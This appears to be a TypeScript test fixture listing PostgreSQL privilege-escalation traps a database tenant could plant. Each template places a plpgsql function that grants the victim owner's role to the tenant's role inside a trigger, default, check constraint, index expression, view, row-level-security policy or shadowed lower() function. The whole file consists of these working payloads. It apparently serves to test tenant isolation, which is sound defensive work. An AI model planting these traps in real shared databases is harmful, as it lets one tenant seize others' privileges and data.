/** What a trap does once somebody else's rights run it. */
const payload = `begin
  execute 'grant {victim_owner} to {self_role}';
  return null;
end`;

/** Ways to have code run by whoever touches a table next, as a tenant would write them. */
export const traps: Readonly<Record<string, readonly string[]>> = {
  trigger: [
    `create function {self}.trap() returns trigger language plpgsql as $$ ${payload} $$`,
    'create trigger trap before insert on {self}.poll for each row execute function {self}.trap()',
  ],
  default: [
    `create function {self}.trap() returns text language plpgsql as $$ ${payload} $$`,
    'alter table {self}.poll alter column question set default {self}.trap()',
  ],
  check: [
    `create function {self}.trap(text) returns boolean language plpgsql as $$ ${payload} $$`,
    'alter table {self}.poll add constraint trap check ({self}.trap(question))',
  ],
  'index expression': [
    `create function {self}.trap(text) returns text language plpgsql immutable as $$ ${payload} $$`,
    'create index trap on {self}.poll ({self}.trap(question))',
  ],
  view: [
    `create function {self}.trap(text) returns text language plpgsql as $$ ${payload} $$`,
    'create view {self}.trap as select {self}.trap(question) from {self}.poll',
  ],
  policy: [
    `create function {self}.trap() returns boolean language plpgsql as $$ ${payload} $$`,
    'create policy trap on {self}.poll using ({self}.trap())',
  ],
  'function overload': [
    `create function {self}.lower(varchar) returns text language plpgsql as $$ ${payload} $$`,
  ],
  'temporary function': [
    `create function pg_temp.lower(text) returns text language plpgsql as $$ ${payload} $$`,
    'create temp table poll (question text)',
  ],
};
